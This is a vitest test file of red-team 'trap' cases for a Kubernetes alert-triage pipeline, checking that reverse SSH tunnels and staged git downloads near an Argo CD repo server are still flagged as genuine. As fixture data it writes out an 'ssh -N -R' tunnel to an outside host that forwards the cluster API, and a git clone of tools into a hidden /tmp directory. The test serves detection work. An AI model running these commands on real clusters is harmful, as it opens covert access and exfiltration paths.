/**
 * Red-team traps for the excuses given to a workload's own behaviour: an attacker who knows the rule reads the declared
 * token file from a child of the app, uploads from a database pod with their own tool, tunnels out of a GitOps repo
 * server, or runs a miner in a pod the EDR keeps killing. Every alert here must stay genuine.
 */
import { describe, expect, it } from 'vitest';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { alert, containerIdOf, indexOf, node, owner, pod } from '../../support/cluster.js';

const SHIM = { name: 'containerd-shim-runc-v2', commandLine: '/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id 0123' };
const at = (p: ReturnType<typeof pod>) => ({ id: containerIdOf(p).slice(0, 12), name: p.spec.containers[0].name, pod: p.metadata.name, namespace: p.metadata.namespace });

describe('redteam gitops-render: tunnels and look-alikes around the repository server', () => {
  const W = 'i-0a41c9e2d7b3f5801';
  const repo = pod('argocd-repo-server-5d8f-abcde', {
    namespace: 'argocd',
    node: W,
    ip: '100.108.0.40',
    owner: { kind: 'ReplicaSet', name: 'argocd-repo-server-5d8f' },
    containers: [{ name: 'argocd-repo-server', image: 'quay.io/argoproj/argocd:v2.11.3', args: ['/usr/local/bin/argocd-repo-server', '--port=8081'] }],
  });
  const app = pod('reports-1', { namespace: 'reports', node: W, ip: '100.108.0.90', containers: [{ name: 'api', image: 'registry.example/reports:1', command: ['tini', '--', '/app/server'] }] });
  const index = indexOf([node(W, '172.20.45.17'), owner('ReplicaSet', 'argocd-repo-server-5d8f', 'argocd'), repo, app]);
  const TUNNEL = { name: 'ssh', path: '/usr/bin/ssh', commandLine: 'ssh -N -R 0.0.0.0:8443:10.96.0.1:443 tunnel@203.0.113.7' };
  it('trap: a node sensor sees ssh -R under some tini on a node where the repo server runs (no container named)', () => {
    const v = triageAlert(alert({ host: W, title: 'Reverse SSH tunnel', process: TUNNEL, ancestors: [{ name: 'tini', commandLine: 'tini -- /opt/agent/run' }, SHIM] }), { index }).verdict;
    expect(v.label).toBe('genuine');
  });
  it('trap: git and its daemon run from a staging directory on the node (no container, no runtime above)', () => {
    const v = triageAlert(
      alert({ host: W, title: 'Suspicious download by git', process: { name: 'git', path: '/tmp/.x/git', commandLine: '/tmp/.x/git clone https://203.0.113.7/tools.git /tmp/.x/t' }, ancestors: [{ name: 'argocd', path: '/tmp/.x/argocd', commandLine: '/tmp/.x/argocd' }, { name: 'bash', commandLine: '-bash' }] }),
      { index },
    ).verdict;
    expect(v.label).toBe('genuine');
  });
  it("trap: ssh -R as a child of an application's own entrypoint (tini) is a tunnel, not its ordinary work", () => {
    const v = triageAlert(alert({ host: W, title: 'Unusual child process', process: TUNNEL, ancestors: [{ name: 'tini', commandLine: 'tini -- /app/server' }, SHIM] }), { index }).verdict;
    expect(v).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
  it('trap: ssh -R remote forwarding from inside the repo server under its daemon', () => {
    const v = triageAlert(alert({ host: W, title: 'Reverse SSH tunnel', process: TUNNEL, ancestors: [{ name: 'argocd-repo-server', commandLine: '/usr/local/bin/argocd-repo-server --port=8081' }], container: at(repo) }), { index }).verdict;
    expect(v.label).toBe('genuine');
  });
});
